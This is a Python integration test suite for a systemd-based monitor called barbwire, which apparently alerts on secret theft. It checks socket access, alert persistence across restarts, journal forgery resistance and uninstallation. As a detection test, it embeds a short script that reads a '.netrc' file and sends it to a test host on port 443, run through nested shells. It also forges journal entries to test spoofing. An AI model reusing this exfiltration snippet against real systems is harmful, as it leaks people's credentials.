#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Access to the service, the presence of its socket, and its alerts after a restart; in a systemd of its own
(tests/box/systemd-box; --newer: a newer one)."""

import contextlib
import glob
import grp
import json
import os
import pwd
import re
import sys
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "../harness"))

import harness
import journal_forger
import service
import varlink
from message_ids import MESSAGE_IDS
from service import (BUILD, SOCKET_UNIT, UNIT, PatientThief, as_text, configure, journal, journal_entries, last_words,
                     main_pid, run, show, states, systemctl, wait_message, wait_until)
from net import HOST_V4
from tap import require, require_equal

RUNNING, STOPPED, LISTENING = ("active", "active"), ("inactive", "inactive"), ("inactive", "active")
DIRECTORY = os.path.dirname(varlink.SOCKET)
MEMBER_UID, STRANGER_UID = 4001, 4002
# The next query in the queue would start a failed service within a second.
FAILED_STARTS_MAX = 3
OWN_SCRIPT = """
import socket, sys
socket.create_connection((sys.argv[2], 443)).sendall(open(sys.argv[1], "rb").read())
"""
CLIENT = """
import sys
sys.path.insert(0, sys.argv[1])
import journal_forger, varlink
uid, *gids = map(int, sys.argv[2:])
journal_forger.become(uid, gids)
try:
    varlink.call("GetStatus")
    print("answered")
except OSError as error:
    print(type(error).__name__)
"""


def ids():
    return [alert["id"] for alert in varlink.list_alerts()]


def query_error():
    """None if a query is answered, else the class of its error."""
    try:
        varlink.call("GetStatus")
    except OSError as error:
        return type(error)
    return None


def asked_by(uid, gids):
    """The result of a query by another user: "answered", or the class of the error. It changes its user late, since
    Python itself may be where only root can read it."""
    return run(sys.executable, "-B", "-c", CLIENT, os.path.join(HERE, "../harness"), str(uid), *map(str, gids)).stdout


# ---- the socket ----

def installed():
    """Immediately after the installation."""
    service.install()
    require_equal(states(), STOPPED, "service and socket")
    require_equal(open(f"{DIRECTORY}/selftest-decoy", encoding="ascii").read()[:18], "This is no secret.", "the decoy")
    result = systemctl("enable", "--now", "barbwire")
    require("arning" not in result.stderr, result.stderr)
    require_equal(states(), RUNNING, "service and socket")
    require_equal([systemctl("is-enabled", unit, check=False).stdout for unit in (UNIT, SOCKET_UNIT)],
                  ["enabled\n", "disabled\n"], "is-enabled")
    require_equal(varlink.call("GetStatus")["pid"], main_pid(), "who answers")


def access():
    group = grp.getgrnam("systemd-journal").gr_gid
    for path, mode, gid in ((DIRECTORY, 0o755, 0), (varlink.SOCKET, 0o660, group)):
        status = os.stat(path)
        require_equal((oct(status.st_mode & 0o7777), status.st_uid, status.st_gid), (oct(mode), 0, gid), path)
    require_equal(asked_by(MEMBER_UID, [group]), "answered\n", "a member of systemd-journal")
    require_equal(asked_by(STRANGER_UID, []), "PermissionError\n", "another user")
    require_equal(asked_by(pwd.getpwnam("barbwire").pw_uid, []), "PermissionError\n",
                  "another process of its user")


# ---- kept alerts ----

def require_listed(wanted, what):
    """ListAlerts returns exactly these, in this order."""
    got = varlink.list_alerts()
    for number, (one, other) in enumerate(zip(got, wanted)):
        require(one == other, f"{what}: alert {number}: got {json.dumps(one)}\nwanted {json.dumps(other)}")
    require_equal(len(got), len(wanted), f"{what}: alerts")


def same_as_journal(thefts):
    """An alert is the same object in every interface."""
    entry, _ = thefts.play()
    logged = json.loads(entry["BARBWIRE_JSON"])
    require_equal(varlink.call("GetAlert", id=entry["BARBWIRE_ALERT_ID"])["alert"], logged, "GetAlert")
    require_equal(varlink.list_alerts()[-1], logged, "the last of ListAlerts")


def restart_keeps(thefts, restart):
    """An alert that is repeated is written again after a later one, and keeps its position."""
    first, second = thefts.home.key()[0], thefts.home.key()[0]
    with PatientThief(thefts.net, first) as thief:
        thief.send()
        thefts.wait_alert(first)
        thefts.play(second)
        thief.send()
    repeated = thefts.wait_alert(first, "1")
    thefts.play()
    before = varlink.list_alerts()
    require_equal(before[-3], json.loads(repeated["BARBWIRE_JSON"]), "the repeated one, third from the end")
    restart()
    require_listed(before, "after the restart")
    thefts.play()
    require_equal(ids()[:-1], [alert["id"] for alert in before], "after another alert")


def kill_and_wait():
    pid = main_pid()
    os.kill(pid, 9)
    wait_until(lambda: states() == RUNNING and main_pid() not in (0, pid), "restart by systemd", harness.ARMED_TIMEOUT)


def persistent(thefts):
    """From /var/log/journal as well as from /run/log/journal, which was used until now."""
    thefts.play()
    before = ids()
    run("mkdir", "/var/log/journal")
    run("systemd-tmpfiles", "--create", "--prefix", "/var/log/journal")
    run("journalctl", "--flush")
    require(not glob.glob("/run/log/journal/*/*.journal"), "the journal was not flushed")
    systemctl("restart", UNIT)
    require_equal(ids(), before, "after the restart")


def own_script(thefts):
    """A script that was seen is known after a reload and after a restart, until it is changed."""
    path, secret = "/srv/own/fetch.py", "/srv/own/.netrc"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    for name, text in ((secret, "a password\n"), (path, OWN_SCRIPT)):
        with open(name, "w", encoding="ascii") as out:
            out.write(text)

    def sight():
        before = ids_of_info()
        # Farther below this process than its other thefts count for.
        command = ["/usr/bin/python3", path, secret, HOST_V4]
        for _ in range(5):
            command = ["sh", "-c", '"$@"; exit', "sh", *command]
        require_equal(thefts.net.run(command).returncode, 0, "the script")
        new = wait_until(lambda: [a for a in varlink.list_alerts(severity="info") if a["id"] not in before], "a record")
        return [(a["script_sight"], a["severity"]) for a in new]

    def ids_of_info():
        return {a["id"] for a in varlink.list_alerts(severity="info")}

    require_equal(sight(), [("first", "low")], "at first")
    systemctl("reload", UNIT)
    require_equal(sight(), [("known", "info")], "after a reload")
    systemctl("restart", UNIT)
    require_equal(sight(), [("known", "info")], "after a restart")
    require("info" not in {a["severity"] for a in varlink.list_alerts()}, "a record of severity info in the list")
    with open(path, "a", encoding="ascii") as out:
        out.write("#")
    require_equal(sight(), [("first", "low")], "after a change")


def written_by_unit():
    """Entries that only the unit itself can write, with another order, repeats and errors."""
    before = varlink.list_alerts()
    model = before[-1]
    made = {name: journal_forger.alert_like(model, name) for name in "abcdefg"}
    # Written in another order than they occurred.
    made["a"]["time"], made["b"]["time"] = "2026-02-02T00:00:02.000000Z", "2026-02-02T00:00:01.000000Z"
    again = dict(made["a"], repeats=7)
    # Its first entry is gone, so it is older than all alerts with a first entry.
    orphan = dict(made["g"], repeats=3)
    entry, write = journal_forger.entry_of, journal_forger.send_as_unit
    write(UNIT, [
        entry(made["a"]),
        entry(made["b"]),
        entry(made["c"], BARBWIRE_JSON=None),
        entry(made["d"], BARBWIRE_JSON=json.dumps(made["d"])[:-1]),
        entry(made["d"], BARBWIRE_JSON=json.dumps(made["b"])),
        entry(made["d"], BARBWIRE_JSON=json.dumps({"id": made["d"]["id"]})),
        entry(made["e"], BARBWIRE_ALERT_ID=None),
        entry(made["e"], MESSAGE_ID=MESSAGE_IDS["LOSS"]),
        entry(orphan),
        entry(made["f"]),
        entry(again),
        # The latest entry cannot be read: the earlier one counts.
        entry(made["b"], BARBWIRE_JSON="", BARBWIRE_REPEATS="1"),
    ])
    systemctl("restart", UNIT)
    require_listed([orphan] + before + [again, made["b"], made["f"]], "after the restart")
    # Entries cannot be removed: the later cases begin with a journal without forgeries.
    run("journalctl", "--rotate")
    run("journalctl", "--vacuum-files=1")
    run("rm", "-rf", *glob.glob("/var/log/journal/*/system@*.journal"))
    systemctl("restart", UNIT)


def full_ring(thefts):
    """The newest alerts that fit, by the time of their first entry."""
    configuration = "/etc/barbwire/barbwire.conf.d/50-test.conf"
    model = json.loads(thefts.play()[0]["BARBWIRE_JSON"])
    made = [journal_forger.alert_like(model, name) for name in "hijklm"]
    logged = made[:3] + [dict(made[0], repeats=1)] + made[3:] + [dict(made[1], repeats=1), dict(made[4], repeats=1)]
    journal_forger.send_as_unit(UNIT, [journal_forger.entry_of(alert) for alert in logged])
    os.makedirs(os.path.dirname(configuration), exist_ok=True)
    with open(configuration, "w", encoding="ascii") as out:
        out.write("[Query]\nMaxAlerts=3\n")
    try:
        systemctl("restart", UNIT)
        require_listed([made[3], dict(made[4], repeats=1), made[5]], "after the restart")
    finally:
        os.unlink(configuration)
    systemctl("restart", UNIT)


def documented_queries():
    """The matches of every journalctl command in our documents."""
    root = harness.SOURCE_ROOT
    for path in [f"{root}/README.md", f"{root}/units/barbwire.catalog"] + glob.glob(f"{root}/daemon/man/*.scd"):
        with open(path, encoding="utf-8") as text:
            text = re.sub(r"\\+\n\s*", " ", text.read())
        for line in re.findall(r"^\s+(journalctl .*)|^(journalctl .*)", text, re.MULTILINE):
            yield path, (line[0] or line[1]).split("#")[0].split("|")[0]


def forged(thefts):
    """Forged entries: by another user, by the same in a unit of our name, by our own user elsewhere, and by root."""
    model = json.loads(thefts.play()[0]["BARBWIRE_JSON"])
    before, own_uid = ids(), pwd.getpwnam("barbwire").pw_uid
    lies = {"_SYSTEMD_UNIT": UNIT, "_SYSTEMD_CGROUP": f"/system.slice/{UNIT}", "_UID": str(own_uid), "UNIT": UNIT,
            "OBJECT_SYSTEMD_UNIT": UNIT, "OBJECT_PID": str(main_pid()), "SYSLOG_IDENTIFIER": "barbwired"}
    users_unit = f"/sys/fs/cgroup/user.slice/user-{STRANGER_UID}.slice/user@{STRANGER_UID}.service/app.slice/{UNIT}"
    senders = {"stranger": {"uid": STRANGER_UID}, "users-unit": {"uid": STRANGER_UID, "cgroup": users_unit},
               "own-user-elsewhere": {"uid": own_uid}, "root": {"uid": 0},
               "root-in-unit": {"uid": 0, "cgroup": f"/sys/fs/cgroup/system.slice/{UNIT}"}}
    for name, sender in senders.items():
        alert = journal_forger.alert_like(model, name)
        journal_forger.send([journal_forger.entry_of(alert, MESSAGE=f"forged by {name}", **lies)], **sender)
    arrived = journal_entries("SYSLOG_IDENTIFIER=barbwired")
    for name in senders:
        require(any(e["MESSAGE"] == f"forged by {name}" for e in arrived), f"journald has not taken what {name} sent")

    systemctl("restart", UNIT)
    require_equal(ids(), before, "ListAlerts after the restart")
    queries = list(documented_queries())
    require(len(queries) > 3, f"found only {queries}")
    for path, query in queries:
        require(re.search(r"_SYSTEMD_UNIT=barbwire(-selftest)?\.service\b|-u barbwire\b", query),
                f"{path}: matches no unit: {query}")
    # Root may write as the unit itself: no match can exclude that.
    for match, shown in (((f"_SYSTEMD_UNIT={UNIT}",), {"root-in-unit"}),
                         (("--unit", UNIT), {"root", "root-in-unit"})):
        got = {as_text(e["MESSAGE"])[len("forged by "):] for e in journal_entries(*match)
               if as_text(e["MESSAGE"]).startswith("forged by ")}
        require(got <= shown, f"journalctl {' '.join(match)} shows what was forged by {got}")


def without_journal():
    """It logs that, and continues to monitor."""
    since = len(journal())
    configure("[Service]\nSupplementaryGroups=\n")
    try:
        systemctl("restart", UNIT)
        wait_message("Failed to read earlier alerts", since, "the message")
        require_equal(varlink.list_alerts(), [], "alerts")
    finally:
        configure(None)
        systemctl("restart", UNIT)


# ---- presence of the socket ----

class Follower(threading.Thread):
    """Follows until the service exits."""

    def __init__(self):
        super().__init__(daemon=True)
        self.connection = varlink.Connection()
        self.replies = self.connection.stream("Follow")
        self.alerts, self.ended = [], None
        require_equal(next(self.replies), {}, "the first reply")
        self.start()

    def run(self):
        try:
            for reply in self.replies:
                self.alerts += [reply["alert"]] if "alert" in reply else []
        except (EOFError, OSError) as error:
            self.ended = error


def reload_keeps_clients(thefts):
    follower = Follower()
    systemctl("reload", UNIT)
    entry, _ = thefts.play()
    wait_until(lambda: follower.alerts, "the alert after the reload")
    require_equal(follower.alerts, [json.loads(entry["BARBWIRE_JSON"])], "what was followed")
    systemctl("restart", UNIT)
    follower.join(service.WAIT_TIMEOUT)
    require(isinstance(follower.ended, (EOFError, ConnectionResetError)), f"after a restart: {follower.ended}")


def restart_while_asked():
    """Queries that are sent meanwhile wait, and the new instance answers them. A newer systemd restarts the socket as
    well, and refuses them for a moment."""
    before, errors, pids, over = main_pid(), set(), set(), threading.Event()

    def ask():
        while not over.is_set():
            try:
                pids.add(varlink.call("GetStatus")["pid"])
            except (EOFError, ConnectionResetError, BrokenPipeError):
                pass  # it was connected to the instance that exits
            except OSError as error:
                errors.add(type(error))

    asking = threading.Thread(target=ask)
    asking.start()
    wait_until(lambda: pids, "an answer")
    systemctl("restart", UNIT)
    require_equal(varlink.call("GetStatus")["pid"], main_pid(), "who answers afterwards")
    over.set()
    asking.join()
    require(pids <= {before, main_pid()}, f"who answered: {pids}")
    require(errors <= ({ConnectionRefusedError, FileNotFoundError} if service.NEWER else set()), f"refused: {errors}")


def restarted_often():
    """More often than systemd allows for other units."""
    for _ in range(7):
        systemctl("restart", UNIT)
        require_equal((states(), query_error()), (RUNNING, None), "after a restart")


def stopped_means_stopped():
    follower = Follower()
    systemctl("stop", UNIT)
    require_equal(states(), STOPPED, "service and socket")
    require(not os.path.exists(varlink.SOCKET), "the socket's file stays")
    require_equal(query_error(), FileNotFoundError, "a query")
    require_equal(states(), STOPPED, "after the query")
    follower.join(service.WAIT_TIMEOUT)
    require(follower.ended, "a connection outlives the service")


def query_starts():
    """With only the socket, as after `systemctl enable barbwire.socket` and a boot."""
    systemctl("disable", UNIT)
    systemctl("enable", "--now", SOCKET_UNIT)
    require_equal(states(), LISTENING, "service and socket")
    status = varlink.call("GetStatus")
    require_equal(states(), RUNNING, "after a query")
    require_equal(status["pid"], main_pid(), "who answers")
    # After a stop, only the administrator starts it again.
    systemctl("stop", UNIT)
    require_equal(states(), STOPPED, "after stop")
    systemctl("start", SOCKET_UNIT)
    require_equal(varlink.call("GetStatus")["pid"], main_pid(), "who answers")
    systemctl("disable", "--now", SOCKET_UNIT)
    require_equal((states()[1], query_error()), ("inactive", FileNotFoundError), "socket and query after disable")
    # The service does not depend on the socket, and a restart creates it again.
    require_equal(states()[0], "active", "the service without its socket")
    systemctl("restart", UNIT)
    require_equal((states(), query_error()), (RUNNING, None), "after a restart")


def start_comes_back():
    systemctl("stop", UNIT)
    systemctl("start", UNIT)
    require_equal((states(), query_error()), (RUNNING, None), "after a start")
    kill_and_wait()
    require_equal(query_error(), None, "a query after SIGKILL")


def failing_is_not_retried():
    """Neither waiting queries nor the next one start it."""
    program = re.search(r"path=(\S+)", show("ExecStart"))[1]
    configure(f"[Service]\nExecStart=\nExecStart={program} --no-such-option\n")
    try:
        systemctl("stop", UNIT)
        systemctl("start", SOCKET_UNIT)
        since = len(journal())
        waiting = []
        for _ in range(5):
            with contextlib.suppress(OSError):
                waiting.append(varlink.Connection())
        wait_until(lambda: states() == ("failed", "inactive"), "the end of it")
        for connection in waiting:
            connection.socket.close()
        require_equal(query_error(), FileNotFoundError, "a query")
        starts = [e for e in journal()[since:] if "unrecognized option" in as_text(e["MESSAGE"])]
        require(0 < len(starts) <= FAILED_STARTS_MAX, f"{len(starts)} starts")
    finally:
        systemctl("stop", UNIT)
        systemctl("reset-failed", UNIT, check=False)
        configure(None)


def service_without_socket(thefts):
    """Without its socket the service still monitors."""
    drop_in = f"/run/systemd/system/{SOCKET_UNIT}.d/50-test.conf"
    os.makedirs(os.path.dirname(drop_in), exist_ok=True)
    with open(drop_in, "w", encoding="ascii") as out:
        out.write("[Socket]\nSocketGroup=no-such-group\n")
    systemctl("daemon-reload")
    try:
        systemctl("start", UNIT)
        require_equal(states(), ("active", "failed"), "service and socket")
        thefts.play()
    finally:
        os.unlink(drop_in)
        systemctl("daemon-reload")
        systemctl("reset-failed", SOCKET_UNIT)
        systemctl("stop", UNIT)


# ---- the end ----

def files():
    """All files with our name, and all of /usr/local, where nothing else is installed meanwhile. Not those of
    directories for temporary files: somebody may be building barbwire there."""
    named = run("find", "/", "-xdev", "(", "-path", "/tmp", "-o", "-path", "/var/tmp", ")", "-prune",
                "-o", "-name", "*barbwire*", "-print").stdout
    return set((named + run("find", "/usr/local").stdout).splitlines())


def uninstalled(before):
    """What stays is the administrator's policy, the journal, and the user, whom files may belong to."""
    systemctl("disable", "--now", UNIT)
    run("ninja", "-C", BUILD, "uninstall")
    systemctl("daemon-reload")
    for unit in (UNIT, SOCKET_UNIT):
        require_equal(show("LoadState", unit), "not-found", unit)
    left = sorted(path for path in files() - before if not re.match(r"/etc/barbwire(/|$)", path))
    require_equal(left, [], "left")
    # In /run, which the next boot empties.
    require_equal(sorted(os.listdir(DIRECTORY)), ["selftest-decoy"], DIRECTORY)


def inside():
    with service.cases() as (t, thefts):
        before = files()
        if not t.setup("install, enable --now: it answers", installed):
            t.note(last_words())
            t.done()
        t.case("members of systemd-journal may ask, others not", access)
        t.case("the same alert in journal and query", same_as_journal, thefts)
        t.case("a restart keeps alerts, ids, order and repeats", restart_keeps, thefts,
               lambda: systemctl("restart", UNIT))
        t.case("a crash keeps them, too", restart_keeps, thefts, kill_and_wait)
        t.case("so does a journal on disk", persistent, thefts)
        t.case("a script that was seen is known after them", own_script, thefts)
        t.case("order, repeats and malformed entries", written_by_unit)
        t.case("more in the journal than are kept", full_ring, thefts)
        t.case("forged entries appear nowhere", forged, thefts)
        t.case("a journal that it may not read", without_journal)
        t.case("reload keeps those who follow, restart lets them go", reload_keeps_clients, thefts)
        t.case("restart while somebody asks", restart_while_asked)
        t.case("restart again and again", restarted_often)
        t.case("stop: a query is refused, and starts nothing", stopped_means_stopped)
        t.case("the socket alone: a query starts the service", query_starts)
        t.case("stop and start, SIGKILL: the socket is there again", start_comes_back)
        t.case("a service that cannot run is not started by queries", failing_is_not_retried)
        t.case("a missing socket does not stop the service", service_without_socket, thefts)
        if not service.NEWER:  # of meson's, not of systemd's
            t.case("ninja uninstall leaves nothing of ours", uninstalled, before)


if __name__ == "__main__":
    service.main(__file__, inside)
